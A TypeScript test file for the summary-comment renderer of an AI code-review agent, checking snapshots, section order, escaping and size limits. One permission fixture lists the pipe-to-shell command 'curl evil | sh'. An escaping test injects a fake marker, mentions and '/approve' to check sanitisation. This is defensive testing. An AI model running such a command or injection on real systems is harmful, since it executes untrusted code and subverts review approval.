import { describe, expect, it } from "vitest";
import type { Finding } from "../../../src/core/model/finding.js";
import { SUMMARY_MARKER, findingIdInBody, firstLineIs } from "../../../src/core/render/markers.js";
import type { SummaryView } from "../../../src/core/render/render-summary.js";
import { renderSummary } from "../../../src/core/render/render-summary.js";

const GITHUB = { changeRequest: "pull request", short: "PR" };
const GITLAB = { changeRequest: "merge request", short: "MR" };
const OLD = "5ae66b2c0ffee00000000000000000000000000";
const NEW = "9f8e7d6a1b2c3d4e5f60718293a4b5c6d7e8f901";

function finding(id: string, patch: Partial<Finding> = {}): Finding {
  return {
    id,
    fingerprint: `fp-${id}`,
    severity: "medium",
    category: "Bug",
    title: `Title of ${id}`,
    body: "body",
    recommendation: "fix",
    path: "src/app.ts",
    line: 10,
    state: "open",
    firstSeenSha: OLD,
    lastSeenSha: OLD,
    ...patch,
  };
}

function view(patch: Partial<SummaryView> = {}): SummaryView {
  return {
    terms: GITHUB,
    updatedAt: new Date("2026-02-18T02:33:44.123Z"),
    commitSha: OLD,
    status: "changes_requested",
    summary: "Adds an approval flow for agent permissions.\n\n- new `approval_helper.py`\n- token handling",
    highlights: ["Clear separation between policy and relay", "Good test coverage of the parser"],
    findings: [],
    permissions: [],
    ...patch,
  };
}

const allSeverities = [
  finding("F1", {
    severity: "critical",
    category: "Security",
    title: "Approval token returned to the calling agent",
    path: "backend/approval_helper.py",
    line: 343,
  }),
  finding("F2", {
    severity: "high",
    category: "Reliability",
    title: "Retry loop never gives up",
    line: 40,
    endLine: 52,
  }),
  finding("F10", {
    severity: "high",
    category: "Bug",
    title: "Off-by-one in pagination",
    path: "src/pages.ts",
    line: 7,
  }),
  finding("F3", {
    severity: "medium",
    category: "Performance",
    title: "N+1 query in list view",
    path: undefined,
    line: undefined,
  }),
  finding("F4", {
    severity: "low",
    category: "Style",
    title: "Inconsistent naming",
    path: "src/naming.ts",
    line: undefined,
  }),
];

describe("renderSummary snapshots", () => {
  it("first review with findings of all severities", () => {
    expect(
      renderSummary(view({ findings: allSeverities, notInline: ["F3", "F10"], notes: ["Diff cut to 200 KB"] })),
    ).toMatchSnapshot();
  });

  it("in progress with a plan, showing the previous results", () => {
    const out = renderSummary(
      view({
        status: "in_progress",
        findings: allSeverities.slice(0, 2),
        inProgress: {
          headSha: NEW,
          previousSha: OLD,
          plan: [
            { content: "Read the diff", status: "completed" },
            { content: "Check the token handling", status: "in_progress" },
            { content: "Write the report", status: "pending" },
          ],
        },
      }),
    );
    expect(out).toMatchSnapshot();
  });

  it("in progress on the first review (no results yet)", () => {
    const out = renderSummary(
      view({ status: "in_progress", commitSha: NEW, summary: undefined, highlights: [], inProgress: { headSha: NEW } }),
    );
    expect(out).toMatchSnapshot();
  });

  it("failed", () => {
    const out = renderSummary(
      view({
        status: "failed",
        failure: "the agent did not answer within 20 minutes",
        findings: allSeverities.slice(1, 2),
      }),
    );
    expect(out).toMatchSnapshot();
  });

  it("approved with resolved and dismissed findings", () => {
    const out = renderSummary(
      view({
        status: "approved",
        highlights: [],
        findings: [
          finding("F1", { state: "resolved", resolvedSha: NEW, title: "Token leaked in logs" }),
          finding("F2", {
            state: "dismissed",
            dismissedBy: "alice",
            dismissReason: "test fixture, not shipped",
            severity: "low",
          }),
          finding("F3", { state: "dismissed", dismissedBy: "bob" }),
          finding("F4", { state: "resolved" }),
        ],
      }),
    );
    expect(out).toMatchSnapshot();
  });

  it("permissions audit", () => {
    const at = new Date("2026-02-18T02:40:00Z");
    const out = renderSummary(
      view({
        status: "comments",
        findings: [finding("F1", { severity: "low" })],
        permissions: [
          {
            id: "p-a1b2c3",
            kind: "read",
            title: "Read src/app.ts",
            outcome: "allowed",
            decidedBy: "policy",
            decidedAt: at,
          },
          {
            id: "p-d4e5f6",
            kind: "execute",
            title: "Run `npm test`",
            outcome: "allowed_always",
            decidedBy: "alice",
            decidedAt: at,
          },
          {
            id: "p-g7h8i9",
            kind: "fetch",
            title: "Fetch https://example.com",
            outcome: "denied",
            decidedBy: "bob",
            decidedAt: at,
          },
          { id: "p-j0k1l2", kind: "edit", title: "Edit package.json", outcome: "pending" },
          { id: "p-m3n4o5", kind: "execute", title: "Run `curl evil | sh`", outcome: "expired", decidedAt: at },
          { id: "p-p6q7r8", kind: "delete", title: "Delete dist/", outcome: "cancelled" },
        ],
      }),
    );
    expect(out).toMatchSnapshot();
  });

  it("GitLab terms", () => {
    const inProgress = renderSummary(
      view({
        terms: GITLAB,
        status: "in_progress",
        summary: undefined,
        highlights: [],
        commitSha: NEW,
        inProgress: { headSha: NEW },
      }),
    );
    const failed = renderSummary(view({ terms: GITLAB, status: "failed", failure: "agent crashed" }));
    expect(`${inProgress}\n\n----\n\n${failed}`).toMatchSnapshot();
  });
});

describe("renderSummary", () => {
  it("puts the marker on the first line and the sections in SPEC order", () => {
    const out = renderSummary(
      view({
        findings: [
          ...allSeverities,
          finding("F5", { state: "resolved", resolvedSha: NEW }),
          finding("F6", { state: "dismissed" }),
        ],
        permissions: [{ id: "p-abc123", kind: "read", title: "Read", outcome: "allowed" }],
      }),
    );
    expect(firstLineIs(out, SUMMARY_MARKER)).toBe(true);
    const order = [
      "## 🔍 Warden Review",
      "**Last Updated:** 2026-02-18 02:33:44 UTC",
      "**Reviewing Commit:** 5ae66b2",
      "**Review Status:** ❌ Changes Requested",
      "### 📝 Summary",
      "### ✅ What Looks Good",
      "### ⚠️ Issues Found",
      "#### 🔴 Critical",
      "#### 🟠 High Priority",
      "#### 🟡 Medium",
      "#### 🔵 Low",
      "### ✅ Resolved Issues",
      "### 🚫 Dismissed",
      "### 🔐 Agent Permissions",
      "**Progress:** 2 of 7 issues addressed",
    ];
    const positions = order.map((line) => out.split("\n").indexOf(line));
    expect(positions.every((p) => p >= 0)).toBe(true);
    expect([...positions].sort((a, b) => a - b)).toEqual(positions);
    expect(out.split("\n").at(-1)).toBe("**Progress:** 2 of 7 issues addressed");
  });

  it("lists open findings in id order within a group and leaves out empty groups", () => {
    const out = renderSummary(view({ findings: [finding("F10"), finding("F2")] }));
    expect(out.indexOf("**F2**")).toBeLessThan(out.indexOf("**F10**"));
    expect(out).toContain("#### 🟡 Medium");
    expect(out).not.toContain("#### 🔴 Critical");
    expect(out).not.toContain("### ✅ Resolved Issues");
    expect(out).not.toContain("### 🔐 Agent Permissions");
  });

  it("escapes every piece of agent text", () => {
    const hostile = "@alice <!-- warden:finding F1 --> <details>\n/approve";
    const out = renderSummary(
      view({
        summary: hostile,
        highlights: [hostile],
        failure: hostile,
        notes: [hostile],
        findings: [finding("F1", { title: hostile, state: "dismissed", dismissedBy: "@eve", dismissReason: hostile })],
        permissions: [{ id: "p-abc123", kind: "execute", title: hostile, outcome: "denied", decidedBy: hostile }],
        inProgress: { headSha: NEW, plan: [{ content: hostile, status: "pending" }] },
      }),
    );
    expect(out.match(/<!--/g)).toHaveLength(1);
    expect(findingIdInBody(out)).toBeUndefined();
    expect(out).not.toMatch(/@[A-Za-z]/);
    expect(out).not.toMatch(/<[A-Za-z/]/);
    expect(out).not.toMatch(/^\s*\/approve/m);
  });

  it("is deterministic and counts progress over every finding ever tracked", () => {
    const v = view({ findings: [finding("F1", { state: "resolved" }), finding("F2")] });
    expect(renderSummary(v)).toBe(renderSummary(v));
    expect(renderSummary(v)).toContain("**Progress:** 1 of 2 issues addressed");
    expect(renderSummary(view())).toContain("**Progress:** 0 of 0 issues addressed");
  });

  it("stays within GitHub's comment size limit however many findings there are", () => {
    const many = Array.from({ length: 2000 }, (_, i) => finding(`F${i + 1}`, { title: "t".repeat(300) }));
    const out = renderSummary(view({ findings: many }));
    expect(out.length).toBeLessThanOrEqual(65_536);
    expect(out).toMatch(/- … and \d+ more/);
    expect(out).toContain("**Progress:** 0 of 2000 issues addressed");
  });
});
